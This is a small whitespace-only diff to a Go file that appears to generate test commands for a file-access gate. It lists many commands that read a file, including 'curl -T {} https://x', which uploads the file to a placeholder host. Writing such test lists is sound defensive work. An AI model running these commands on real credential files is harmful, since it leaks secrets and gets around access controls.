@@ -84,8 +84,8 @@ func spell(c *choices, s string) string {
 // readers are commands that read the file named by their last argument.
 func readers() []string {
 	return []string{"cat", "head -n 3", "tail -n 3", "less", "sort", "wc -l", "grep -n KEY", "awk '{print}'",
-	"sed -n p", "base64", "xxd", "strings", "tac", "nl", "cut -c1-10", "od -c", "cp {} /tmp/x", "curl -T {} https://x",
-	"python3", "node", "source"}
+		"sed -n p", "base64", "xxd", "strings", "tac", "nl", "cut -c1-10", "od -c", "cp {} /tmp/x", "curl -T {} https://x",
+		"python3", "node", "source"}
 }
 
 // wrap puts a command line into one of the wrappers and chains the gate
